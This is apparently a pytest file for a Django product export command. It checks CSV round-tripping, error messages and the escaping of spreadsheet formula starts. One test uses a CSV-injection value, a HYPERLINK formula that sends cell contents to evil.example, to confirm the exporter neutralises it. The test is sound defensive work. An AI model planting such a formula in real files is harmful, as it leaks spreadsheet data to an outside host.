"""export_products: a category's or a type's products in import_products' columns; re-imported unchanged."""

import csv
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from core import mongo

from .importfiles import snapshot


def export(*args):
    out = StringIO()
    call_command("export_products", *args, stdout=out)
    return out.getvalue()


def test_the_demo_catalog_exported_imports_again_unchanged(chinook, tmp_path):
    before = snapshot()
    music = tmp_path / "music.csv"
    music.write_text(export("--category", "Music"), encoding="utf-8")
    video = tmp_path / "video.csv"
    call_command("export_products", "--type", "TV Season", "--output", str(video), stdout=StringIO())
    rows = list(csv.DictReader(music.open(encoding="utf-8")))
    albums = list(mongo.get_collection("products").find({"type": "Audio Album"}, {"sku": 1, "variants.sku": 1}))
    variants = {v["sku"]: a["sku"] for a in albums for v in a.get("variants") or []}
    assert variants  # the demo catalog's albums sold on CD and LP: a row per variant below its album
    assert len(rows) == len(albums) + len(variants)
    assert {r["sku"]: r["variant_of"] for r in rows if r["variant_of"]} == variants
    first = next(r for r in rows if r["sku"] == "CHK-0001")
    assert first["categories"] == "Music > Rock" and first["price"] == "7.99" and first["list_price"] == "9.90"
    assert first["stock"] == "20" and first["details.issue_date"] == "2021-01-02"
    for path in (music, video):
        out = StringIO()
        call_command("import_products", str(path), stdout=out, stderr=StringIO())
        assert " 0 created, 0 changed, " in out.getvalue() and "0 refused" in out.getvalue()
    assert snapshot() == before


def test_an_edited_export_changes_only_the_rows_edited(chinook, tmp_path):
    rows = list(csv.DictReader(StringIO(export("--type", "TV Season"))))
    rows[0]["price"] = "1.00"
    path = tmp_path / "seasons.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    out = StringIO()
    call_command("import_products", str(path), stdout=out)
    assert f"0 created, 1 changed, {len(rows) - 1} unchanged" in out.getvalue()


def test_unknown_category_or_type_is_a_one_line_error(chinook):
    with pytest.raises(CommandError, match="No category 'Music > Polka'"):
        export("--category", "Music > Polka")
    with pytest.raises(CommandError, match="no product type called 'Toaster'"):
        export("--type", "Toaster")
    with pytest.raises(CommandError, match="Give --category"):
        export()


def test_a_title_a_spreadsheet_would_run_is_exported_as_text_and_imports_back_unchanged(chinook, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    mongo.get_collection("products").update_one({"sku": "CHK-0001"}, {"$set": {"title": formula}})
    first = tmp_path / "first.csv"
    first.write_text(export("--category", "Music > Rock"), encoding="utf-8")
    call_command("import_products", str(first), stdout=StringIO(), stderr=StringIO())  # its derived fields
    text = export("--category", "Music > Rock")
    row = next(r for r in csv.DictReader(StringIO(text)) if r["sku"] == "CHK-0001")
    assert row["title"] == "'" + formula  # a spreadsheet shows it, never runs it
    path = tmp_path / "rock.csv"
    path.write_text(text, encoding="utf-8")
    out = StringIO()
    call_command("import_products", str(path), stdout=out, stderr=StringIO())
    assert " 0 created, 0 changed, " in out.getvalue()
    assert mongo.get_collection("products").find_one({"sku": "CHK-0001"})["title"] == formula


def test_cells_escape_every_formula_start_and_unescape_back():
    from core.csvcells import FORMULA_STARTS, escape, unescape

    for start in FORMULA_STARTS:
        assert escape(start + "1") == "'" + start + "1" and unescape(escape(start + "1")) == start + "1"
    assert escape("Rock") == "Rock" and escape(7) == 7 and escape(None) == "" and unescape("'quoted") == "'quoted"
